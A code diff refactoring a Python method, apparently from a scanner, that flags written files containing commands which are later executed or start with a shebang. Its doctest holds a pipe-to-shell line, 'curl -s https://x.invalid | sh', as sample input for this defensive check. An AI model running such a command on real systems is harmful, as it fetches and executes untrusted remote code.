@@ -192,10 +192,11 @@ class Files:
         >>> list(files.programs(["at -f /tmp/.a now"])), list(files.programs(["cat /tmp/.a"]))
         ([(3, 'curl -s https://x.invalid | sh')], [])
         """
-        started = {name for text in texts for name in self._started(text)}
-        for name, pieces in self.texts.items():
-            said = "\n".join(pieces)
-            if _SAYS_COMMAND.search(said) and (name in started or said.lstrip().startswith("#!")):
+        whole = ((name, "\n".join(pieces)) for name, pieces in self.texts.items())
+        saying = [(name, said) for name, said in whole if _SAYS_COMMAND.search(said)]
+        started = {name for text in texts for name in self._started(text)} if saying else set[str]()
+        for name, said in saying:
+            if name in started or said.lstrip().startswith("#!"):
                 yield self.lines[name], said
 
     def _started(self, text: str) -> Iterator[str]:
